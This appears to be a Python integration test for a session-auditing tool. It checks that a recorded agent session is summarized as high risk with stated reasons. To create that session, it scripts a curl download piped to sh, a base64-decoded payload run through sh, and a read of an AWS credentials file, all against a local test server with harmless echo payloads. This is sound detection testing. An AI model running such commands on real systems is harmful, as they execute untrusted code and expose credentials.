"""A fresh install summarizes every session offline: a real session recorded by a real agent,
with a download piped to a shell, a base64 payload decoded and run, and AWS credentials read,
comes out high or critical with its reasons, in `sessrec summary`, the central audit log and
`sessrec ls --risk`."""
import http.server
import json
import os
import re
import threading

from .sumlib import SECRET, docs, openai_model_doc, pick_port, secret_doc, transcript_of

PAYLOAD_B64 = "ZWNobyBkZWNvZGVkLXBheWxvYWQtcmFuCg=="  # "echo decoded-payload-ran\n"


class _Script(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = b"echo downloaded-script-ran\n"
        self.send_response(200)
        self.send_header("Content-Type", "text/x-sh")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *a):
        pass


def test_fresh_install_builtin_summary_of_a_risky_real_session(world):
    w = world
    c = w.collector()
    # a fresh install: model builtin, policy default (every kind, no filter) -> builtin
    pol = json.loads(w.cli(c, "get", "policy", "default", "--json", check=True).out)
    assert pol["kind"] == "inference_policy" and pol["spec"]["model"] == "builtin", pol
    assert sorted(pol["spec"]["kinds"]) == ["db", "k8s", "local", "ssh"], pol
    assert not pol["spec"].get("filter"), pol
    model = json.loads(w.cli(c, "get", "model", "builtin", "--json", check=True).out)
    assert "builtin" in model["spec"], model

    port = pick_port()
    srv = http.server.ThreadingHTTPServer(("127.0.0.1", port), _Script)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    home = w.mkdir("home")
    os.makedirs(os.path.join(home, ".aws"))
    with open(os.path.join(home, ".aws", "credentials"), "w") as f:
        f.write("[default]\naws_access_key_id = AKIAEXAMPLEEXAMPLE00\n")
    script = ("curl -s http://127.0.0.1:%d/install.sh | sh\n"
              "echo %s | base64 -d | sh\n"
              "cat \"$HOME/.aws/credentials\"\n" % (port, PAYLOAD_B64))
    a = w.agent(c, labels={"env": "lab"})
    try:
        r = a.run(["bash", "-c", script], env={"HOME": home})
    finally:
        srv.shutdown()
        srv.server_close()
    assert r.rc == 0 and r.sid, r
    assert b"downloaded-script-ran" in r.out and b"decoded-payload-ran" in r.out, r
    assert b"aws_access_key_id" in r.out, r
    sid = r.sid

    job = w.wait_job(c, sid, timeout=60)  # the agent uploads it, the collector summarizes it
    assert job["status"] == "done" and job["model"] == "builtin" and job["policy"] == "default", job
    assert job["origin"] == "auto", job

    s = w.summary(c, sid)
    assert s["success"] is True and s["sid"] == sid, s
    assert s["model_name"] == "builtin" and s["provider"] == "builtin", s
    assert s["tokens_in"] == 0 and s["tokens_out"] == 0, s
    assert s["risk_level"] in ("high", "critical"), s
    assert s["risk_score"] >= 50 and s["needs_review"] is True, s
    reasons = "\n".join(s["risk_reasons"]).lower()
    assert "download" in reasons and "shell" in reasons, s["risk_reasons"]
    assert "decod" in reasons, s["risk_reasons"]
    assert "credential" in reasons or ".aws" in reasons, s["risk_reasons"]
    coi = "\n".join(s["commands_of_interest"])
    assert "curl" in coi and "base64" in coi, s["commands_of_interest"]
    assert s["title"] and s["short_description"] and s["detailed_description"], s

    # the human view says the same
    p = w.cli(c, "summary", sid, check=True)
    assert s["risk_level"].upper() in p.out and "needs review" in p.out, p.out
    assert s["title"] in p.out and "builtin" in p.out, p.out

    # the central audit log has the session.summarized line
    lines = w.audit(c, type="session.summarized", sid=sid)
    assert len(lines) == 1, lines
    ev = lines[0]
    assert ev["event"] == "session.summarized" and ev["code"] == "SR5000I", ev
    assert ev["success"] is True and ev["risk_level"] == s["risk_level"], ev
    assert ev["model_name"] == "builtin" and ev["sid"] == sid and ev["policy"] == "default", ev
    assert ev["risk_reasons"] == s["risk_reasons"], ev

    # sessrec ls --risk finds it by its level, and only by it
    p = w.cli(c, "ls", "--risk", s["risk_level"], "--json", check=True)
    assert sid in [json.loads(l)["sid"] for l in p.out.splitlines() if l.strip()], p.out
    p = w.cli(c, "ls", "--risk", "low", "--json", check=True)
    assert sid not in p.out, p.out
    p = w.cli(c, "ls", "--risk", "severe")
    assert p.returncode == 2 and "low, medium, high, critical" in p.err, (p.out, p.err)
    p = w.cli(c, "ls", "--risk", s["risk_level"], "--wide", check=True)
    assert sid in p.out and s["risk_level"] in p.out, p.out
    sess = w.api_json(c, "/v1/sessions/" + sid)
    assert sess["risk_level"] == s["risk_level"], sess

    # offline: the provider was never asked
    assert w.llm.requests() == []

    # the same real session asked of an OpenAI-compatible model on demand: its transcript has the
    # commands with arguments and exit codes, the connection, the file read and the output
    w.create(c, docs(secret_doc("llm-key", SECRET), openai_model_doc("gpt", "gpt-real", w.llm.openai_base_url)))
    p = w.cli(c, "summarize", "--model", "gpt", "--wait", sid, timeout=60)
    assert p.returncode == 0, (p.out, p.err)
    reqs = w.llm.requests()
    assert len(reqs) == 1 and reqs[0]["model"] == "gpt-real", reqs
    t = transcript_of(reqs[0])
    assert t is not None, reqs[0]["user_text"]
    assert re.search(r"\] exec \S*/curl -s http://127\.0\.0\.1:%d/install\.sh.*rc=0" % port, t), t
    assert re.search(r"\] exec \S*/base64 -d", t), t
    assert re.search(r"\] exec \S*/cat \S*/\.aws/credentials", t), t
    assert re.search(r"\[net\] curl → 127\.0\.0\.1:%d" % port, t), t
    assert re.search(r"\[read\] \S*/\.aws/credentials \(cat\)", t), t
    assert "downloaded-script-ran" in t and "decoded-payload-ran" in t, t
    g = w.summary(c, sid)
    assert g["success"] and g["model_name"] == "gpt" and g["origin"] == "manual", g
    assert "reads credentials or keys" in g["risk_reasons"], g  # the fake saw the file in the transcript
    al = w.summary(c, sid, all=True)
    assert [(x["model_name"], x["origin"]) for x in al] == [("gpt", "manual"), ("builtin", "auto")], al
    # the session's risk level is its latest successful summary's
    assert w.api_json(c, "/v1/sessions/" + sid)["risk_level"] == g["risk_level"]
    p = w.cli(c, "ls", "--risk", g["risk_level"], "--json", check=True)
    assert sid in p.out, p.out
